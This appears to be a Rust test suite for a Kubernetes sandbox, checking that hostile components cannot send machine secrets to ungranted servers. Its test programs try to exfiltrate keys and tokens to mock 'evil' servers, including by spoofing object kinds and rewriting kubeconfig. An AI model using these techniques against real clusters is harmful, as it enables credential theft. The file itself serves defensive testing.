//! A component talks to servers of its own, and servers answer what no server
//! should.

use std::sync::atomic::{AtomicU32, Ordering};

use kubewright_test_hostile_calls::{
    Call, Condition, Encoding, Item, Piece, Program, Question, Reference, SealedField, Selection,
    Target, Trust,
};

use super::calls::{ADMIN, PKI, compose, connect, get, kubeconfig, secrets, write};
use crate::support::attack::{CERTIFICATE_KEY, GENEROUS, Scene, TOKEN_SECRET, Told, World, config};
use crate::support::components::hostile_upload_certs;
use crate::support::evil::{Evil, Reply, Request};
use crate::support::leaks::Secret;

/// Stores objects, and gives them back as another kind.
pub fn lying(request: &Request) -> Reply {
    let name = request.target.split('?').next().unwrap_or_default();
    let name = name.rsplit('/').next().unwrap_or_default();
    match request.method.as_str() {
        "GET" => {
            let object = format!(
                r#"{{"kind":"ConfigMap","apiVersion":"v1","metadata":{{"name":"{name}","namespace":"kube-system"}},"data":{{"k":"Z2l2ZW4gYmFjaw=="}}}}"#
            );
            Reply::Json(200, object.into_bytes())
        }
        _ => Reply::Json(201, request.body.clone()),
    }
}

/// Gives back what it was sent last, as another kind.
fn mirror() -> impl Fn(&Request) -> Reply + Send + Sync {
    let last = std::sync::Mutex::new(Vec::new());
    move |request| {
        let mut last = last.lock().expect("nobody panicked");
        if request.method == "GET" {
            let text = String::from_utf8_lossy(&last).replace("\"Secret\"", "\"ConfigMap\"");
            return Reply::Json(200, text.into_bytes());
        }
        last.clone_from(&request.body);
        Reply::Json(201, request.body.clone())
    }
}

/// Fails the test where one of the machine's secrets went there.
#[track_caller]
fn got_no_secret(scene: &Scene, server: &Evil) {
    let sent = server.sent();
    for secret in scene.secrets() {
        assert!(
            !secret.is_in(&sent),
            "the {} was sent to {}:\n{sent}",
            secret.name,
            server.origin()
        );
    }
}

/// A phase that is replaced has the grants of the one that it replaces; they
/// name no server. The kinds are what the component asked for, not what a
/// server calls them.
#[test]
fn a_replaced_upload_certs_sends_keys_nowhere_else() {
    let scene = Scene::new(World::Machine);
    let server = Evil::plain(lying);
    let built = hostile_upload_certs();
    scene.place.write("upload.wasm", &built.component);
    scene.place.write(
        "distribution.yaml",
        format!(
            "apiVersion: kubewright.dev/v1alpha1\nkind: Distribution\nname: mine\nextends: kubernetes\n\
             phases:\n- name: upload-certs\n  component: upload.wasm\n  digest: {}\n",
            built.digest
        ),
    );
    scene.place.write(
        "config.yaml",
        config().replace(
            "kubernetesVersion:",
            &format!("clusterName: {}\nkubernetesVersion:", server.origin()),
        ),
    );
    let arguments = scene.arguments("upload-certs", &["--upload-certs"]);
    let finished = scene.watched().run(&arguments);
    let told = Told::new(finished);
    // The component got as far as asking.
    assert!(
        told.finished.stdout.contains("sending to http://127.0.0.1"),
        "{}",
        told.finished.said()
    );
    got_no_secret(&scene, &server);
    assert_eq!(server.sent(), "", "it was asked");
    scene.keeps_its_secrets(&told);
}

cases!(a_connection_goes_to_no_server_that_was_not_granted:
    in_clear(false),
    by_tls(true),
);

fn a_connection_goes_to_no_server_that_was_not_granted(is_secure: bool) {
    let scene = Scene::with(World::Machine, GENEROUS);
    let server = match is_secure {
        true => Evil::secure(&scene.machine(PKI), mirror()),
        false => Evil::plain(mirror()),
    };
    let mut program = Program::new();
    let length = scene.text(&format!("{PKI}/sa.key")).len();
    let client = program.call(Call::KubeConnectTo {
        kubeconfig: ADMIN.into(),
        server: server.origin().into(),
    });
    for held in secrets(&mut program, length) {
        let data = program.call(compose(Encoding::Base64, vec![Piece::Sealed(held.step)]));
        program.call(Call::KubeCreate {
            of: client,
            object: r#"{"apiVersion":"v1","kind":"Secret","metadata":{"name":"x","namespace":"kube-system"},"data":{"k":""}}"#.into(),
            sealed: vec![SealedField {
                pointer: "/data/k".into(),
                value: data,
            }],
        });
        program.call(get(client, "Secret", "x"));
    }
    let told = scene.carry_out(&program);
    told.not_done(client);
    got_no_secret(&scene, &server);
    scene.keeps_its_secrets(&told);
}

/// Points the machine's kubeconfig at a server that it trusts, as an operator
/// whose cluster turned evil.
pub fn cluster(scene: &Scene, script: impl Fn(&Request) -> Reply + Send + Sync + 'static) -> Evil {
    let evil = Evil::secure(&scene.machine(PKI), script);
    let admin = scene.text(ADMIN);
    let changed = admin.replace("https://192.0.2.10:6443", &evil.origin());
    assert_ne!(changed, admin);
    scene.put(ADMIN, changed);
    evil
}

/// The cluster's own server gets Secrets, and cannot have their values told to
/// a component by calling them something else.
#[test]
fn what_was_asked_for_is_masked_whatever_a_server_calls_it() {
    let scene = Scene::with(World::Machine, GENEROUS);
    let server = cluster(&scene, mirror());
    let mut program = Program::new();
    let client = program.call(connect());
    let length = scene.text(&format!("{PKI}/sa.key")).len();
    for held in secrets(&mut program, length) {
        let data = program.call(compose(Encoding::Base64, vec![Piece::Sealed(held.step)]));
        program.call(Call::KubeCreate {
            of: client,
            object: r#"{"apiVersion":"v1","kind":"Secret","metadata":{"name":"x","namespace":"kube-system"},"data":{"k":""}}"#.into(),
            sealed: vec![SealedField { pointer: "/data/k".into(), value: data }],
        });
        program.call(get(client, "Secret", "x"));
        program.call(Call::KubeGetList {
            of: client,
            selection: Selection::core("Secret"),
        });
        program.call(Call::KubeWait {
            of: client,
            reference: Reference::core("Secret", "x"),
            condition: Condition::Equals("/data/k".into(), "\"x\"".into()),
            seconds: 1,
        });
    }
    let told = scene.carry_out(&program);
    assert!(
        server.sent().contains("/secrets"),
        "{}",
        told.finished.said()
    );
    scene.keeps_its_secrets(&told);
}

/// A token of a kubeconfig goes to whoever the kubeconfig calls its server.
#[test]
fn a_kubeconfig_of_its_own_sends_no_secret() {
    let grants = GENEROUS.replace(
        "\"/etc/kubernetes/pki/**\"], verbs: [read, write",
        "\"/etc/kubernetes/pki/**\", /etc/kubernetes/admin.conf], verbs: [read, write",
    );
    assert_ne!(grants, GENEROUS);
    let scene = Scene::with(World::Machine, &grants);
    let plain = Evil::plain(mirror());
    let secure = Evil::secure(&scene.machine(PKI), mirror());
    let mut program = Program::new();
    let length = scene.text(&format!("{PKI}/sa.key")).len();
    let secrets = secrets(&mut program, length);
    for (server, cluster) in [
        (&plain, String::new()),
        (&secure, format!(", certificate-authority: {PKI}/ca.crt")),
        (
            &secure,
            format!(", certificate-authority-data: {}", {
                use base64::Engine as _;
                base64::engine::general_purpose::STANDARD
                    .encode(scene.text(&format!("{PKI}/ca.crt")))
            }),
        ),
        (&secure, ", insecure-skip-tls-verify: true".to_owned()),
    ] {
        for held in &secrets {
            for field in ["token", "username: x, password"] {
                let one_line =
                    program.call(compose(Encoding::Base64, vec![Piece::Sealed(held.step)]));
                let content =
                    kubeconfig(&server.origin(), &cluster, field, Piece::Sealed(one_line));
                program.call(write(ADMIN, content));
                let client = program.call(connect());
                program.call(get(client, "ConfigMap", "x"));
            }
        }
    }
    let told = scene.carry_out(&program);
    got_no_secret(&scene, &plain);
    got_no_secret(&scene, &secure);
    scene.keeps_its_secrets(&told);
}

/// What listens inside a network is not a component's to ask.
#[test]
fn health_asks_no_server_that_was_not_granted() {
    let scene = Scene::with(World::Machine, GENEROUS);
    let asked = std::sync::Arc::new(AtomicU32::new(0));
    let counted = std::sync::Arc::clone(&asked);
    let server = Evil::plain(move |_| {
        counted.fetch_add(1, Ordering::SeqCst);
        Reply::Json(500, b"only the inside may see this".to_vec())
    });
    let secure = Evil::secure(&scene.machine(PKI), |_| {
        Reply::Json(500, b"only the inside may see this".to_vec())
    });
    let mut program = Program::new();
    let target = |url: String, trust: Trust| {
        Item::One(Target {
            name: "x".into(),
            url: url.into(),
            trust,
            workload: "".into(),
        })
    };
    let mut steps = Vec::new();
    for one in [
        target(format!("{}/internal?x=y", server.origin()), Trust::Plain),
        target(format!("{}/internal", secure.origin()), Trust::Unverified),
        target(
            format!("{}/internal", secure.origin()),
            Trust::CaFile(format!("{PKI}/ca.crt").into()),
        ),
        target(
            format!("{}/internal", secure.origin()),
            Trust::Kubeconfig(ADMIN.into()),
        ),
        // Not this very machine.
        target("https://192.0.2.77/livez".to_owned(), Trust::Unverified),
    ] {
        steps.push(program.call(Call::HealthAwait {
            targets: vec![one],
            seconds: 1,
        }));
    }
    let asks = program.call(Call::ChecksAsk {
        question: Question {
            url: format!("{}/internal", server.origin()).into(),
            ca_file: "".into(),
            certificate_file: "".into(),
            key_file: "".into(),
        },
    });
    let told = scene.carry_out(&program);
    for step in steps {
        let why = told.not_done(step);
        assert!(why.contains("Denied"), "step {step}: {why}");
    }
    told.not_done(asks);
    assert_eq!(server.sent(), "");
    assert_eq!(secure.sent(), "");
    assert_eq!(asked.load(Ordering::SeqCst), 0);
    assert!(!told.finished.said().contains("only the inside"));
}

#[test]
fn a_flood_of_health_targets_is_bounded() {
    let scene = Scene::with(World::Machine, GENEROUS);
    let mut program = Program::new();
    let each = Target {
        name: "x{n}".into(),
        url: "http://127.0.0.1:1/{n}".into(),
        trust: Trust::Plain,
        workload: "".into(),
    };
    let flood = program.call(Call::HealthAwait {
        targets: vec![Item::Each {
            each,
            times: 60_000,
        }],
        seconds: 3,
    });
    let watched = scene.watched().mebibytes(400).seconds(60);
    let told = scene.attempt_within(watched, &program, &[]);
    assert!(
        [0, 1].contains(&told.finished.code),
        "{}",
        told.finished.said()
    );
    if told.finished.code == 0 {
        told.not_done(flood);
    }
}

/// The control: what is sent to these servers is seen, so that the tests above
/// could fail.
#[test]
fn a_server_knows_what_it_was_sent() {
    let server = Evil::plain(mirror());
    let secret = Secret::new("token", TOKEN_SECRET);
    let body = format!("{{\"kind\":\"Secret\",\"x\":\"{TOKEN_SECRET}\"}}");
    let request = format!(
        "POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut stream = std::net::TcpStream::connect(server.address).unwrap();
    std::io::Write::write_all(&mut stream, request.as_bytes()).unwrap();
    let mut answer = [0; 12];
    std::io::Read::read_exact(&mut stream, &mut answer).unwrap();
    assert_eq!(&answer, b"HTTP/1.1 201");
    assert!(secret.is_in(&server.sent()));
    assert!(!Secret::new("key", CERTIFICATE_KEY).is_in(&server.sent()));
}
